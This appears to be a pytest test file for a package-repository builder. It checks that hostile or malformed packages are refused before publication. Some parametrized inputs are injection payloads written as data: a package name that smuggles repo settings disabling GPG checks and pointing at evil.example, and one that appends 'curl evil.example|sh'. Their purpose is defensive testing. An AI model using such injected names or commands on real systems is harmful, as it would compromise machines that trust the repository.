"""A package that comes to a site is one that it can have."""

import re
import sys

import pytest
from msgspec.structs import replace

from builder.errors import PackageError
from builder.formats import compression, pkginfo, tar
from builder.model import File
from builder.repositories import draft as drafts
from builder.repositories.draft import Draft
from builder.repositories.state import SiteState
from tests.unit.repositories.ecosystems import shelves


def test_a_file_that_the_sites_list_could_not_hold_is_refused() -> None:
    """Before anything is written: a site whose list cannot be read is none."""
    publication = shelves.publication()
    empty = Draft(None, SiteState(organisation=publication.organisation, url=publication.url))
    package = shelves.released("rpm", "2026.10")
    assert drafts.admit(empty, "rpm", package, publication).files
    with pytest.raises(PackageError, match=r"^a\^b\.rpm: would be rpm/Packages/a\^b\.rpm on the site"):
        drafts.admit(empty, "rpm", replace(package, filename="a^b.rpm"), publication)


@pytest.mark.parametrize(
    ("target", "ecosystem", "name"),
    [
        ("rpm", "rpm", "acme-ca,bash"),
        ("rpm", "rpm", "acme*"),
        ("rpm", "rpm", "--nogpgcheck-acme"),
        ("rpm", "rpm", "acme\ngpgcheck=0\n[evil]\nbaseurl=http://evil.example/"),
        ("arch", "pacman", "acme; curl evil.example|sh"),
    ],
)
def test_a_name_that_would_be_more_than_a_name_is_refused(
    monkeypatch: pytest.MonkeyPatch, target: str, ecosystem: str, name: str
) -> None:
    """Names stand in every machine's .repo file and preferences, and in the lines that people copy."""
    # A package of somebody else's making can hold any: ours is made to write it.
    monkeypatch.setattr(sys.modules[f"builder.formats.{_WRITERS[target]}"], "_NAME", re.compile(r"(?s).*"))
    package = shelves.released(target, "2026.10", name=name)
    with pytest.raises(PackageError, match=r"is no package's name and version$"):
        drafts.admit(_empty(), ecosystem, package, shelves.publication())


@pytest.mark.parametrize(("target", "ecosystem"), [("deb", "apt"), ("rpm", "rpm"), ("apk", "apk")])
def test_no_release_brings_the_repository_package(target: str, ecosystem: str) -> None:
    """It would decide in the site's place which keys and addresses machines trust, with a higher version."""
    package = shelves.released(target, "2999.1", name="acme-repository")
    with pytest.raises(PackageError, match="acme-repository is the site's own, and no release may bring it"):
        drafts.admit(_empty(), ecosystem, package, shelves.publication())
    assert drafts.admit(_empty(), ecosystem, replace(package, release=""), shelves.publication()).files


def test_what_an_index_cannot_hold_is_said_of_the_file() -> None:
    """A package may be one, and say what no index of its ecosystem has room for."""
    package = shelves.released("gem", "2026.10")
    hostile = replace(package, data=package.data[: -len(package.data) // 2])
    with pytest.raises(PackageError, match=rf"^{re.escape(package.filename)}: "):
        drafts.admit(_empty(), "gem", hostile, shelves.publication())


@pytest.mark.parametrize("size", ["many", "9" * 5000])
def test_a_number_that_is_none_is_said_of_the_file(size: str) -> None:
    """It ends in an error, and in no traceback."""
    was = shelves.released("apk", "2026.10")
    control, data = (raw for raw, _ in compression.gunzip_each(".apk", was.data))
    info = tar.unpack("", compression.gunzip_each("", control)[0][1])[0].data
    hostile = re.sub(rb"(?m)^size = .*$", b"size = " + size.encode(), info)
    packed = compression.gzip(tar.write([File(pkginfo.NAME, hostile)], 1, end=False)) + data
    with pytest.raises(PackageError, match=rf"^{re.escape(was.filename)}: says what no index can: "):
        drafts.admit(_empty(), "apk", replace(was, data=packed), shelves.publication())


_WRITERS = {"rpm": "rpm.write", "arch": "pacman"}


def _empty() -> Draft:
    publication = shelves.publication()
    return Draft(None, SiteState(organisation=publication.organisation, url=publication.url))
